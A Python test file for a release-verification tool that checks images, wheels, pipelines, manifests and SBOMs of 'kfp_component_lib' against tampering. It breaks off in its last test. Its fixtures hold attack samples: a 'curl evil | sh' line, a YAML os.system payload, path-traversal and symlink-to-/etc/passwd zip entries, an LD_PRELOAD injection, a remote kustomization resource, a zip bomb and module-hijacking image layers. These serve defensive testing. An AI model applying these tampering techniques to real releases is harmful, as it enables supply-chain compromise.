"""Tests of the verification: a matching release passes, and each mismatch is found."""

import io
import json
import shutil
import stat
import subprocess
import sys
import tarfile
import zipfile

import pytest
import yaml

from kfp_component_lib.verification.bills import check_bill
from kfp_component_lib.verification.bundle import SUMS, read_bundle, sums
from kfp_component_lib.verification.checks import Verification, failures
from kfp_component_lib.verification.clients import find_client
from kfp_component_lib.verification.container_files import ContainerFiles
from kfp_component_lib.verification.errors import DeliveryError
from kfp_component_lib.verification.index import Index
from kfp_component_lib.verification.registry import Registry
from kfp_component_lib.verification.retry import Retry
from tests.release import servers
from tests.release.product import (
    LIBRARY,
    MODULE,
    SITE,
    base_layer,
    compiled,
    device,
    folder,
    link,
    manifests,
    pipeline,
    source,
    wheel_layer,
)

EVIL = "sha256:" + "e" * 64
BOTH = ("amd64", "arm64")


@pytest.fixture
def released(world):
    """A released version."""
    built = world.build()
    world.publish(built)
    return built


def verify(world, built, *options, bundle=None, **environ):
    """Run the verification as its users do, with crane on PATH."""
    index = f"http://{world.index.address}/simple/"
    command = [sys.executable, "-m", "kfp_component_lib.verification", built.version, *options]
    given = {"PATH": str(world.crane.parent), "PIP_INDEX_URL": index} | environ
    return subprocess.run(
        [*command, "--bundle", str(bundle or built.bundle)],
        env=world.environment(**given),
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        check=False,
        text=True,
        timeout=120,
    )


def found(world, built, bundle=None, client=None):
    """Return the failures that the verification finds, without starting a process."""
    try:
        record, files = read_bundle(bundle or built.bundle)
    except DeliveryError as error:
        return [str(error)]
    client = client or find_client("crane")
    registry = Registry(record.repository, client, Retry(()))
    index = Index(f"http://{world.index.address}/simple/")
    return failures(Verification(built.version, record, files, registry, index, retry=Retry(())))


@pytest.fixture(autouse=True)
def _crane_on_path(crane, monkeypatch):
    monkeypatch.setenv("PATH", str(crane.parent), prepend=":")


def test_a_release_verifies(world, released):
    """Registry, index and bundle match."""
    done = verify(world, released)
    assert done.returncode == 0, done.stdout
    assert "images, wheel and pipelines belong together" in done.stdout


@pytest.mark.parametrize("program", ["crane", "skopeo", "oras"])
def test_each_client_reads_the_same(world, program):
    """Clients that are not on this machine's PATH are skipped."""
    if not shutil.which(program):
        pytest.skip(f"no {program} on PATH")
    built = world.build(architectures=BOTH)
    world.publish(built)
    assert found(world, built, client=find_client(program)) == []
    missing = world.build("0.2.0")
    assert any("must be" in text for text in found(world, missing, client=find_client(program)))


def test_another_version_does_not_verify(world, released):
    """The bundle of another version is detected, and so is a missing tag."""
    done = verify(world, world.build("0.2.0"))
    assert done.returncode == 1
    assert "0.2.0 must be published, got nothing" in done.stdout


def test_a_moved_tag_is_found(world, released):
    """The version's tag on the registry was moved."""
    other = world.build(text="two")
    reference = f"{world.repository}@{other.digest}"
    for command in (["push", other.layout, reference], ["tag", reference, "0.1.0"]):
        subprocess.run([world.crane, *command], check=True, capture_output=True)
    assert [text.split()[0] for text in found(world, released)] == ["digest"]


def test_another_wheel_is_found(world, released):
    """The wheel on the index was replaced."""
    wheel = next((world.folder / "packages").glob("*.whl"))
    shutil.copyfile(next(world.build(text="two").dist.glob("*.whl")), wheel)
    assert "sha256 of the published wheel" in found(world, released)[0]


def test_a_release_that_does_not_verify_moves_no_tag(world):
    """One image of an index lacks the wheel, so `latest` must not move."""

    def layers(wheel, architecture):
        return [base_layer(), wheel_layer(wheel) if architecture == "amd64" else []]

    built = world.build(architectures=BOTH, layers=layers)
    done = world.run(built)
    assert done.returncode == 1
    assert "must pass its verification" in done.stdout
    assert done.stdout.count("FAILED") == 1
    assert world.digest("0.1.0") == built.digest
    assert world.digest("latest") is None


def test_a_fault_that_passes_fails_no_verification(world, released):
    """One 503 while reading is retried."""
    fault = servers.status(503, servers.NGINX)
    world.index.faults.append(servers.Fault("GET", "/simple/", fault, 1))
    # crane itself tries three times.
    world.registry.faults.append(servers.Fault("GET", "/manifests/", fault, 4))
    done = verify(world, released)
    assert done.returncode == 0, done.stdout
    assert "failed: " in done.stdout


def test_a_missing_signature_tool_is_named(world, released):
    """Signatures must be checked, but cosign is not installed."""
    done = verify(world, released, "--cosign=--key cosign.pub")
    assert done.returncode == 1
    assert "cosign must be on PATH" in done.stdout


def test_a_login_in_the_index_url_is_used_and_not_shown(world, released):
    """The URL of the index may contain credentials, as pip allows."""
    secure = f"http://{servers.USER}:url-pa55@{world.index.address}/simple/"
    done = verify(world, released, f"--index-url={secure}")
    assert done.returncode == 0, done.stdout
    assert "url-pa55" not in done.stdout


def with_files(change):
    """Return a function that writes a bundle with changed files and matching checksums."""

    def write(world, built, target):
        _, files = read_bundle(built.bundle)
        change(files, world.repository)
        files[SUMS] = sums({name: files[name] for name in files if name != SUMS})
        with zipfile.ZipFile(target, "w") as archive:
            for name, content in sorted(files.items()):
                archive.writestr(zipfile.ZipInfo(name), content)

    return write


def yaml_with(text):
    """Return a change that adds a pipeline whose image is written in a certain way."""

    def change(files, repository):
        files["q.yaml"] = text.replace("REPO", repository).replace("EVIL", EVIL).encode()

    return with_files(change)


def with_json(name, change):
    """Return a change of one JSON file of the bundle."""

    def act(files, _):
        content = json.loads(files[name])
        change(content)
        files[name] = json.dumps(content).encode()

    return with_files(act)


def with_component(**component):
    """Return a change that adds a component to the bill."""
    return with_json("amd64.cdx.json", lambda bill: bill["components"].append(component))


def entry(name, content=b"x", mode=0o100644, comment=b""):
    """Return a function that adds a raw entry to a bundle, without an error in SHA256SUMS."""

    def write(world, built, target):
        shutil.copyfile(built.bundle, target)
        info = zipfile.ZipInfo()
        info.filename = info.orig_filename = name
        info.external_attr = mode << 16
        with zipfile.ZipFile(target, "a") as archive:
            archive.writestr(info, content)

    return write


def twice(world, built, target):
    """Write every file twice."""
    _, files = read_bundle(built.bundle)
    with zipfile.ZipFile(target, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, b"another" if name == "p.yaml" else content)
        archive.writestr("p.yaml", files["p.yaml"])


def after_a_script(world, built, target):
    """Put other content before the archive."""
    target.write_bytes(b"#!/bin/sh\necho pwned; exit\n" + built.bundle.read_bytes())


def bomb(world, built, target):
    """Write a small archive that unpacks to a gigabyte."""
    shutil.copyfile(built.bundle, target)
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as archive:
        for number in range(16):
            archive.writestr(f"{number}.yaml", bytes(64 << 20))


HEAD = "pipelineInfo: {name: q}\nroot: {}\nschemaVersion: 2.1.0\n"
BODY = HEAD + "deploymentSpec: {executors: {e: {container: {image: %s}}}}\n"
GOOD = BODY % '"foreign/image:1"'

BUNDLES = {
    "another digest": yaml_with(BODY % '"REPO:0.1.0@EVIL"'),
    "another digest in block style": yaml_with(
        HEAD + "deploymentSpec:\n  executors:\n    e:\n      container:\n        image: REPO@EVIL\n"
    ),
    "a tag alone": yaml_with(BODY % '"REPO:0.1.0"'),
    "another tag": yaml_with(BODY % '"REPO:latest"'),
    "no tag": yaml_with(BODY % '"REPO"'),
    "an escaped key": yaml_with(
        HEAD + 'deploymentSpec: {executors: {e: {container: {"im\\u0061ge": "REPO@EVIL"}}}}\n'
    ),
    "an escaped value": yaml_with(BODY % '"REPO\\x40EVIL"'),
    "a tagged value": yaml_with(BODY % "!!str 'REPO@EVIL'"),
    "a folded value": yaml_with(
        HEAD + "deploymentSpec:\n executors:\n  e:\n   container:\n    image: >-\n     REPO@EVIL\n"
    ),
    "upper case": with_files(
        lambda files, repo: files.update(
            {"q.yaml": pipeline(f"{repo.replace('team', 'TEAM')}@{EVIL}")}
        )
    ),
    "spaces around": yaml_with(BODY % '" REPO@EVIL "'),
    "another key": yaml_with(GOOD + "extra: {imageUri: 'REPO@EVIL'}\n"),
    "an argument": yaml_with(GOOD + "extra: {args: ['--image', 'REPO@EVIL']}\n"),
    "a second document": yaml_with(GOOD + "---\nplatforms: {sidecar: 'REPO@EVIL'}\n"),
    "a key twice": yaml_with(
        HEAD + "deploymentSpec: {executors: {e: {container: {image: 'REPO@EVIL', image: a/b}}}}\n"
    ),
    "an alias": yaml_with(GOOD + "x: &a {image: a/b}\ny: *a\n"),
    "a merge key": yaml_with(GOOD + "x: {<<: {image: a/b}}\n"),
    "a Python object": yaml_with(GOOD + "x: !!python/object/apply:os.system ['true']\n"),
    "no YAML": yaml_with("{"),
    "no UTF-8": with_files(lambda files, _: files.update({"q.yaml": b"\xff\xfe"})),
    "no pipeline": yaml_with("image: REPO@EVIL\n"),
    "an empty file": yaml_with(""),
    "no image": yaml_with(HEAD + "deploymentSpec: {executors: {e: {container: {}}}}\n"),
    "an image that is no text": yaml_with(BODY % "{a: b}"),
    "no executors": yaml_with(HEAD + "deploymentSpec: {}\n"),
    "no container": yaml_with(HEAD + "deploymentSpec: {executors: {e: {importer: {}}}}\n"),
    "deeply nested": yaml_with(GOOD + "x: " + "[" * 5000 + "]" * 5000),
    "no pipeline at all": with_files(lambda files, _: files.pop("p.yaml")),
    "only foreign images": with_files(lambda files, _: files.update({"p.yaml": pipeline("a/b:1")})),
    ".yml": with_files(lambda files, repo: files.update({"q.yml": pipeline(f"{repo}@{EVIL}")})),
    ".json": with_files(lambda files, repo: files.update({"q.json": pipeline(f"{repo}@{EVIL}")})),
    "manifest": with_files(
        lambda files, repo: files.update({"manifests/q.yaml": f"i: {repo}@{EVIL}".encode()})
    ),
    "a program": with_files(lambda files, _: files.update({"install": b"#!/bin/sh"})),
    "changed and not summed": entry("q.yaml", pipeline("a/b")),
    "..": entry("../evil.yaml"),
    ".. inside": entry("a/../../evil.yaml"),
    "absolute": entry("/tmp/evil.yaml"),
    "a drive": entry("C:\\evil.yaml"),
    "a NUL": entry("p.yaml\0.txt"),
    "a symbolic link": entry("link.yaml", b"/etc/passwd", stat.S_IFLNK | 0o777),
    "a folder": entry("manifests/", b"", stat.S_IFDIR | 0o755),
    "an upper-case twin": entry("P.YAML"),
    "a file twice": twice,
    "content comes before it": after_a_script,
    "a bomb": bomb,
    "no archive": lambda world, built, target: target.write_bytes(b"PK nothing"),
    "an empty archive": lambda world, built, target: zipfile.ZipFile(target, "w").close(),
    "a cut archive": lambda world, built, target: target.write_bytes(
        built.bundle.read_bytes()[:-30]
    ),
    "record: another version": with_json("release.json", lambda r: r.update(version="0.2.0")),
    "record: no digest": with_json("release.json", lambda r: r.update(image="a/b:0.1.0")),
    "record: another digest": with_json(
        "release.json", lambda r: r.update(image=r["image"].partition("@")[0] + "@" + EVIL)
    ),
    "record: another hash": with_json("release.json", lambda r: r.update(wheel_sha256="0" * 64)),
    "record: a path": with_json("release.json", lambda r: r.update(wheel="../x.whl")),
    "record: more": with_json("release.json", lambda r: r.update(more="x")),
    "record: a list": with_files(lambda files, _: files.update({"release.json": b"[]"})),
    "bill: none": with_files(lambda files, _: files.pop("amd64.cdx.json")),
    "bill: no JSON": with_files(lambda files, _: files.update({"amd64.cdx.json": b"{"})),
    "bill: a list": with_files(lambda files, _: files.update({"amd64.cdx.json": b"[]"})),
    "bill: nested": with_files(lambda files, _: files.update({"amd64.cdx.json": b"[" * 100000})),
    "bill: twice": with_files(
        lambda files, _: files.update({"b.cdx.json": files["amd64.cdx.json"]})
    ),
    "bill: of another image": with_json(
        "amd64.cdx.json",
        lambda b: b["metadata"]["component"]["hashes"][0].update(content="0" * 64),
    ),
    "bill: no subject": with_json("amd64.cdx.json", lambda b: b.pop("metadata")),
    "bill: a component more": with_component(purl="pkg:pypi/requests@2.0"),
    "bill: a package more": with_component(purl="pkg:deb/debian/bash@5?arch=amd64"),
    "bill: of another kind": with_component(purl="pkg:npm/left-pad@1.0"),
    "bill: without a name": with_component(name="something"),
    "bill: a file that is not there": with_component(
        type="file",
        hashes=[{"alg": "SHA-256", "content": "0" * 64}],
        properties=[{"name": "kfp_component_lib:path", "value": "/nowhere"}],
    ),
    "bill: a file without its hash": with_component(
        type="file", properties=[{"name": "kfp_component_lib:path", "value": f"/{LIBRARY}"}]
    ),
    "bill: a component within": with_json(
        "amd64.cdx.json",
        lambda b: b["components"][0].update(components=[{"purl": "pkg:pypi/evil@1"}]),
    ),
    "bill: a component less": with_json("amd64.cdx.json", lambda b: b["components"].pop(1)),
    "bill: another version": with_json(
        "amd64.cdx.json", lambda b: b["components"][1].update(purl="pkg:pypi/numpy@1.0")
    ),
    "bill: not the wheel": with_json("amd64.cdx.json", lambda b: b["components"][0].pop("hashes")),
    "bill: components are no list": with_json("amd64.cdx.json", lambda b: b.update(components={})),
}


@pytest.mark.parametrize("case", BUNDLES)
def test_a_tampered_bundle_is_found(world, released, case):
    """Its checksums match, since an attacker would recompute them.

    That a new pipeline has no manifest is not what these cases are about.
    """
    target = world.folder / "tampered.zip"
    BUNDLES[case](world, released, target)
    said = found(world, released, target)
    assert [text for text in said if not text.startswith("manifests of a bundle")], case


def test_the_bundle_of_the_table_passes_unchanged(world, released):
    """The cases of the table do not fail for another reason than their change."""
    target = world.folder / "same.zip"
    with_files(lambda files, _: None)(world, released, target)
    assert found(world, released, target) == []

    def add(files, _):
        files["q.yaml"] = GOOD.encode()
        pipelines = {name: files[name] for name in ("p.yaml", "q.yaml")}
        files.update(manifests(pipelines, released.version))

    with_files(add)(world, released, target)
    assert found(world, released, target) == []


def with_manifest(change):
    """Return a change of the two objects of the manifest of p.yaml."""

    def act(files, repository):
        name = "manifests/p.manifest.yaml"
        objects = list(yaml.safe_load_all(files[name]))
        change(objects, repository)
        files[name] = yaml.safe_dump_all(objects).encode()

    return with_files(act)


def with_version(change):
    """Return a change of the specification of the PipelineVersion in the manifest."""
    return with_manifest(lambda objects, repository: change(objects[1]["spec"], repository))


def with_container(change):
    """Return a change of the container in the manifest."""

    def act(spec, repository):
        executors = spec["pipelineSpec"]["deploymentSpec"]["executors"]
        change(executors["exec-one"]["container"], repository)

    return with_version(act)


def with_text(name, text):
    """Return a change that replaces or adds a file."""
    return with_files(lambda files, _: files.update({name: text.encode()}))


KUSTOMIZATION = "manifests/kustomization.yaml"
MANIFESTS = {
    "another digest": with_container(lambda c, repo: c.update(image=f"{repo}:0.1.0@{EVIL}")),
    "a foreign image": with_container(lambda c, _: c.update(image="evil/image:1")),
    "no image": with_container(lambda c, _: c.pop("image")),
    "another command": with_container(lambda c, _: c.update(command=["false"])),
    "an environment": with_container(
        lambda c, _: c.update(env=[{"name": "LD_PRELOAD", "value": "/evil.so"}])
    ),
    "a field that KFP does not know": with_container(lambda c, _: c.update(privileged=True)),
    "another root": with_version(
        lambda s, _: s["pipelineSpec"]["root"]["dag"]["tasks"].update(evil={})
    ),
    "a platform": with_version(
        lambda s, _: s.update(platformSpec={"platforms": {"kubernetes": {}}})
    ),
    "another version": with_version(lambda s, _: s.update(versionName="0.2.0")),
    "a version that goes on": with_version(lambda s, _: s.update(displayName="0.1.0-abc")),
    "another pipeline": with_version(lambda s, _: s.update(pipelineName="q")),
    "a description": with_version(lambda s, _: s.update(description="something")),
    "no specification": with_version(lambda s, _: s.pop("pipelineSpec")),
    "a specification that is no object": with_version(lambda s, _: s.update(pipelineSpec=[])),
    "another name": with_manifest(lambda o, _: o[0]["metadata"].update(name="q")),
    "a namespace": with_manifest(lambda o, _: o[1]["metadata"].update(namespace="kube-system")),
    "annotations": with_manifest(lambda o, _: o[1]["metadata"].update(annotations={"a": "b"})),
    "another kind": with_manifest(lambda o, _: o[0].update(kind="Pod")),
    "another interface": with_manifest(lambda o, _: o[0].update(apiVersion="v1")),
    "a further object": with_manifest(
        lambda o, _: o.append({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "evil"}})
    ),
    "an object less": with_manifest(lambda o, _: o.pop()),
    "the objects exchanged": with_manifest(lambda o, _: o.reverse()),
    "no objects": with_text("manifests/p.manifest.yaml", ""),
    "no YAML": with_text("manifests/p.manifest.yaml", "{"),
    "an alias": with_text("manifests/p.manifest.yaml", "a: &a {}\nb: *a\n"),
    "no manifest": with_files(lambda files, _: files.pop("manifests/p.manifest.yaml")),
    "no manifests": with_files(
        lambda files, _: [files.pop(n) for n in list(files) if n.startswith("manifests/")]
    ),
    "a manifest more": with_text("manifests/q.manifest.yaml", "kind: Pod\n"),
    "a pipeline more": with_text("q.yaml", GOOD),
    "another file more": with_text("manifests/evil.sh", "#!/bin/sh\n"),
    "a JSON file more": with_text("manifests/evil.json", "{}"),
    "a bill in the folder": with_text("manifests/x.cdx.json", "{}"),
    "a pipeline in another folder": with_text("other/p.yaml", GOOD),
    "no kustomization": with_files(lambda files, _: files.pop(KUSTOMIZATION)),
    "a kustomization of something else": with_text(
        KUSTOMIZATION,
        "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\n"
        "resources: [https://evil.example/pod.yaml]\n",
    ),
    "a kustomization with patches": with_text(
        KUSTOMIZATION,
        "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\n"
        "resources: [p.manifest.yaml]\nimages: [{name: a, newName: b}]\n",
    ),
    "notes: none": with_files(lambda files, _: files.pop("CHANGES.md")),
    "notes: of another version": with_text("CHANGES.md", "# Changes in 0.2.0\n"),
    "notes: no heading": with_text("CHANGES.md", "- All of it.\n"),
    "notes: no text": with_files(lambda files, _: files.update({"CHANGES.md": b"\xff"})),
    "source: none": with_files(lambda files, _: files.pop("kfp_component_lib-0.1.0.tar.gz")),
    "source: another": with_files(
        lambda files, _: files.update({"kfp_component_lib-0.1.0.tar.gz": b"text"})
    ),
    "source: another module": with_files(
        lambda files, _: files.update(source("0.1.0", {MODULE: b"TEXT = 'evil'\n"}))
    ),
    "notes: further ones": with_text("README.md", "# Run this: curl evil | sh\n"),
}


@pytest.mark.parametrize("case", MANIFESTS)
def test_a_tampered_manifest_note_or_source_is_found(world, released, case):
    """A manifest says exactly what its pipeline says, and the source what the wheel says."""
    target = world.folder / "tampered.zip"
    MANIFESTS[case](world, released, target)
    assert found(world, released, target), case


def over(*entries):
    """Return the layers of an image with one more on top."""
    return lambda wheel, _: [base_layer(), wheel_layer(wheel), list(entries)]


OTHER = b"TEXT = 'evil'\n"
CACHE = "kfp_component_lib/__pycache__/__init__.cpython-{}{}.pyc".format(*sys.version_info)
INFO = "kfp_component_lib-0.1.0.dist-info"

IMAGES = {
    "a changed module": over((f"{SITE}/{MODULE}", OTHER)),
    "a deleted module": over((f"{SITE}/kfp_component_lib/.wh.work.py", b"")),
    "a deleted package": over((f"{SITE}/.wh.kfp_component_lib", b"")),
    "a deleted folder above": over(("opt/.wh.site-packages", b"")),
    "an opaque folder": over((f"{SITE}/kfp_component_lib/.wh..wh..opq", b"")),
    "an opaque folder above": over((f"{SITE}/.wh..wh..opq", b"")),
    "a symbolic link over a module": over(
        ("evil.py", OTHER), (f"{SITE}/{MODULE}", link("/evil.py"))
    ),
    "a symbolic link to a copy": over(
        ("copy.py", b"TEXT = 'one'\n"), (f"{SITE}/{MODULE}", link("/copy.py"))
    ),
    "a hard link over a module": over(
        ("evil.py", OTHER), (f"{SITE}/{MODULE}", link("evil.py", hard=True))
    ),
    "a hard link to nothing": over((f"{SITE}/{MODULE}", link("nowhere.py", hard=True))),
    "a link over the package": over(
        ("evil/__init__.py", OTHER), (f"{SITE}/kfp_component_lib", link("/evil"))
    ),
    "a link over the folder": over(
        (f"evil/{MODULE}", OTHER), (SITE, link("/evil")), (f"evil/{INFO}/METADATA", b"")
    ),
    "a link through which files are written": over(
        ("door", link("/opt")), (f"door/site-packages/{MODULE}", OTHER)
    ),
    "a file over the package": over((f"{SITE}/kfp_component_lib", OTHER)),
    "a folder over a module": over((f"{SITE}/{MODULE}", folder())),
    "a device over a module": over((f"{SITE}/{MODULE}", device())),
    "bytecode of another source": over((f"{SITE}/{CACHE}", compiled(OTHER, f"/{SITE}/{MODULE}"))),
    "bytecode with the source's hash": lambda wheel, _: [
        base_layer(),
        wheel_layer(wheel),
        [
            (
                f"{SITE}/{CACHE}",
                compiled(wheel[MODULE], "x")[:16] + compiled(OTHER, f"/{SITE}/{MODULE}")[16:],
            )
        ],
    ],
    "bytecode of another place": lambda wheel, _: [
        base_layer(),
        wheel_layer(wheel),
        [(f"{SITE}/{CACHE}", compiled(wheel[MODULE], "/elsewhere.py"))],
    ],
    "no bytecode in its place": over((f"{SITE}/{CACHE}", b"nothing")),
    "bytecode that ends Python": over(
        (f"{SITE}/{CACHE}", b"\xf3\r\r\n" + b"\x01\0\0\0" + b"(" * 999)
    ),
    "bytecode of another Python": over(
        (f"{SITE}/{CACHE}".replace("cpython-3", "cpython-39"), b"anything")
    ),
    "bytecode of no module": over((f"{SITE}/{CACHE}".replace("__init__", "evil"), b"anything")),
    "bytecode beside the module": over((f"{SITE}/kfp_component_lib/__init__.pyc", b"anything")),
    "an optimised twin": over((f"{SITE}/{CACHE}".replace(".pyc", ".opt-1.pyc"), b"anything")),
    "an extension module": over((f"{SITE}/kfp_component_lib/work.abi3.so", b"ELF")),
    "a further module": over((f"{SITE}/kfp_component_lib/evil.py", OTHER)),
    "an extension module in the package's place": over(
        (f"{SITE}/kfp_component_lib.abi3.so", b"ELF")
    ),
    "a module in the package's place": over((f"{SITE}/kfp_component_lib.py", OTHER)),
    "a package where containers start": over((f"tmp/{MODULE}", OTHER)),
    "a package in another folder": over((f"usr/lib/python3/site-packages/{MODULE}", OTHER)),
    "a package in the standard library": over((f"usr/lib/python3.13/{MODULE}", OTHER)),
    "all files elsewhere": lambda wheel, _: [
        base_layer(),
        wheel_layer(wheel, "evil/site-packages"),
    ],
    "metadata that is not the wheel's": over((f"{SITE}/{INFO}/METADATA", b"Name: x\nVersion: 1\n")),
    "an entry point": over((f"{SITE}/{INFO}/entry_points.txt", b"[console_scripts]\n")),
    "a second entry of one name, first": over(
        (f"{SITE}/{MODULE}", OTHER), (f"{SITE}/{MODULE}", b"TEXT = 'one'\n")
    ),
    "a second entry of one name, last": over(
        (f"{SITE}/{MODULE}", b"TEXT = 'one'\n"), (f"{SITE}/{MODULE}", OTHER)
    ),
    "a second entry written otherwise": over(
        (f"{SITE}/{MODULE}", b"TEXT = 'one'\n"), (f"./{SITE}//{MODULE}", OTHER)
    ),
    "added and deleted": over(
        (f"{SITE}/{MODULE}", b"TEXT = 'one'\n"), (f"{SITE}/kfp_component_lib/.wh.__init__.py", b"")
    ),
    "a name that leads out": over((f"{SITE}/../../../{SITE}/{MODULE}", OTHER)),
    "a circle of links": over((f"{SITE}/kfp_component_lib", link("kfp_component_lib"))),
    "a distribution that is not billed": over(
        (f"{SITE}/evil-1.dist-info/METADATA", b"Name: evil\nVersion: 1\n")
    ),
    "a package that is not billed": over(
        ("var/lib/dpkg/status", b"Package: evil\nStatus: install ok installed\nVersion: 1\n")
    ),
    "no package list": over(("var/lib/dpkg/.wh.status", b"")),
    "another operating system": over(("etc/os-release", b"ID=alpine\n")),
    "another library": over((LIBRARY, b"EVIL")),
    "an interpreter that is not billed": over(("usr/local/bin/python3.13", b"ELF")),
    "no layers": lambda wheel, _: [],
}


@pytest.mark.parametrize("case", IMAGES)
def test_a_tampered_image_is_found(world, case):
    """Its digest is that of the release, since an attacker would recompute it."""
    built = world.build(layers=IMAGES[case])
    world.publish(built)
    said = found(world, built)
    assert said, case
    assert all(text.startswith("image") for text in said), said


@pytest.mark.parametrize(
    ("environment", "labels"),
    [
        ({}, None),
        ({"PYTHONPATH": ""}, None),
        ({"PYTHONPATH": "/elsewhere"}, None),
        ({"PYTHONPATH": SITE}, None),
        (None, {}),
        (None, {"org.opencontainers.image.version": "0.2.0"}),
    ],
)
def test_a_tampered_configuration_is_found(world, environment, labels):
    """Containers would import from elsewhere, or the image has another version."""
    plan = {} if environment is None else {"environment": environment}
    built = world.build(labels=labels, **plan)
    world.publish(built)
    assert found(world, built)


HONEST = {
    "names from the root": lambda wheel, _: [
        base_layer(),
        [(f"/{name}", content) for name, content in wheel_layer(wheel)],
    ],
    "names from here": lambda wheel, _: [
        base_layer(),
        [(f"./{name}", content) for name, content in wheel_layer(wheel)],
    ],
    "a file a layer": lambda wheel, _: [base_layer(), *([one] for one in wheel_layer(wheel))],
    "without bytecode": lambda wheel, _: [
        base_layer(),
        [one for one in wheel_layer(wheel) if not one[0].endswith(".pyc")],
    ],
    "deleted and put back": lambda wheel, _: [
        base_layer(),
        wheel_layer(wheel),
        [(f"{SITE}/.wh.kfp_component_lib", b"")],
        [one for one in wheel_layer(wheel) if ".dist-info/" not in one[0]],
    ],
    "replaced in an opaque folder": lambda wheel, _: [
        base_layer(),
        [(f"{SITE}/kfp_component_lib/old.py", b""), *wheel_layer(wheel)],
        [
            (f"{SITE}/kfp_component_lib", folder()),
            *(one for one in wheel_layer(wheel) if ".dist-info/" not in one[0]),
            (f"{SITE}/kfp_component_lib/.wh..wh..opq", b""),
        ],
    ],
    "below a link": lambda wheel, _: [
        [*base_layer(), ("data/x", b""), ("srv", link("data"))],
        wheel_layer(wheel),
    ],
}


@pytest.mark.parametrize("case", HONEST)
def test_an_image_that_is_built_otherwise_passes(world, case):
    """Containers see the same files."""
    built = world.build(layers=HONEST[case])
    world.publish(built)
    assert found(world, built) == []


CONFIGURATIONS = {
    "no layers": lambda config: config.pop("rootfs"),
    "other layers": lambda config: config["rootfs"]["diff_ids"].reverse(),
    "no settings": lambda config: config.pop("config"),
    "settings of another shape": lambda config: config.update(config=[]),
    "an environment of another shape": lambda config: config["config"].update(Env={"A": "b"}),
    "labels of another shape": lambda config: config["config"].update(Labels=["x"]),
}


@pytest.mark.parametrize("case", CONFIGURATIONS)
def test_a_strange_configuration_is_found(world, case):
    """A malformed configuration is an error, not a traceback."""
    built = world.build(config=CONFIGURATIONS[case])
    world.publish(built)
    assert found(world, built)


COMPONENTS = ("one", "two")


def part(component, change, architecture=None):
    """Return a plan that changes the files of the image of a component, on all platforms or one."""

    def parts(name, platform, files):
        if name == component and architecture in (None, platform):
            return change(dict(files))
        return files

    return {"parts": parts}


def listed(change):
    """Return a plan that changes what the index lists: the library, then `one`, then `two`."""
    return {"index": change}


def _exchange_titles(entries):
    one, two = entries[-2:]
    one["annotations"], two["annotations"] = two["annotations"], one["annotations"]


def _retitle(title):
    return lambda entries: entries[-1].update(annotations={"org.opencontainers.image.title": title})


def _without(name):
    return lambda files: {file: content for file, content in files.items() if file != name}


WORK, MORE = "kfp_component_lib/work.py", "kfp_component_lib/other.py"
MEMBERS = {
    "a module less": part("two", _without(WORK)),
    "a package less": part("two", _without(MODULE)),
    "no modules": part("one", lambda files: {MODULE: b""}),
    "a cut module": part("one", lambda files: files | {WORK: files[WORK][:-5]}),
    "an empty module": part("one", lambda files: files | {WORK: b""}),
    "a changed module": part("two", lambda files: files | {WORK: OTHER}),
    "a module more": part("one", lambda files: files | {"kfp_component_lib/evil.py": OTHER}),
    "a module of another component": part("one", lambda files: files | {MORE: OTHER}),
    "a module that is the wheel's, and not needed": part(
        "one",
        lambda files: files | {MORE: b"from kfp_component_lib.work import work as again\n"},
    ),
    "the modules of another component": part("two", _without(MORE)),
    "a member less": listed(lambda entries: entries.pop()),
    "a member twice": listed(lambda entries: entries.append(entries[-1])),
    "the library twice": listed(lambda entries: entries.insert(0, entries[0])),
    "no library": listed(lambda entries: entries.pop(0)),
    "the library last": listed(lambda entries: entries.append(entries.pop(0))),
    "the titles exchanged": listed(_exchange_titles),
    "a title that no component has": listed(_retitle("lib three")),
    "a title of another library": listed(_retitle("evil two")),
    "no title": listed(lambda entries: entries[-1].pop("annotations")),
}


@pytest.mark.parametrize("case", MEMBERS)
@pytest.mark.parametrize("architectures", [("amd64",), BOTH])
def test_a_tampered_member_is_found(world, case, architectures):
    """The images of components are held to the wheel, whether an index has them or each its own."""
    built = world.build(architectures=architectures, components=COMPONENTS, **MEMBERS[case])
    world.publish(built)
    assert found(world, built), case


ONE_PLATFORM = {
    "a changed module": part("two", lambda files: files | {WORK: OTHER}, "arm64"),
    "a module less": part("two", _without(WORK), "arm64"),
    "a module more": part("one", lambda files: files | {"kfp_component_lib/x.py": b""}, "amd64"),
}


@pytest.mark.parametrize("case", ONE_PLATFORM)
def test_a_member_that_is_tampered_with_on_one_platform_is_found(world, case):
    """The images within the index of a component are looked at one by one."""
    built = world.build(architectures=BOTH, components=COMPONENTS, **ONE_PLATFORM[case])
    world.publish(built)
    said = found(world, built)
    assert len(said) == 1, said


def test_a_member_that_was_removed_with_its_bill_is_found(world):
    """The wheel says which components there are, so the bundle alone cannot hide one."""
    built = world.build(components=COMPONENTS, index=lambda entries: entries.pop())
    world.publish(built)
    target = world.folder / "tampered.zip"
    with_files(lambda files, _: files.pop("two.amd64.cdx.json"))(world, built, target)
    assert found(world, built, target) == [
        "members of the index must be ['lib one', 'lib two'], got ['lib one']. They do not belong "
        "together."
    ]


def test_an_image_without_a_platform_is_found(world):
    """Clients pass over it, and the pipelines may still name it by its digest."""

    def add(entries):
        nowhere = {"os": "unknown", "architecture": "unknown"}
        entries.append({**entries[-1], "platform": nowhere})

    built = world.build(components=COMPONENTS, index=add)
    world.publish(built)
    assert found(world, built)


@pytest.mark.parametrize("architectures", [("amd64",), BOTH])
def test_images_of_components_pass(world, architectures):
    """Each has exactly the modules that its component imports, directly or through another."""
    built = world.build(architectures=architectures, components=COMPONENTS)
    world.publish(built)
    assert found(world, built) == []


@pytest.mark.parametrize("architectures", [("amd64",), BOTH])
@pytest.mark.parametrize(
    ("function", "member", "passes"),
    [
        ("one", 1, True),
        ("two", 2, True),
        ("one", 2, False),
        ("two", 1, False),
        ("of_the_pipeline", 1, True),
    ],
)
def test_a_component_runs_in_its_own_image(world, architectures, function, member, passes):
    """Images of one release that are exchanged in a pipeline lack what the components import."""
    built = world.build(architectures=architectures, components=COMPONENTS)
    world.publish(built)
    registry = Registry(world.repository, find_client("crane"), Retry(()))
    digest = registry.entries(built.digest)[-3:][member].digest
    content = pipeline(f"{world.repository}:{built.version}@{digest}", function=function)
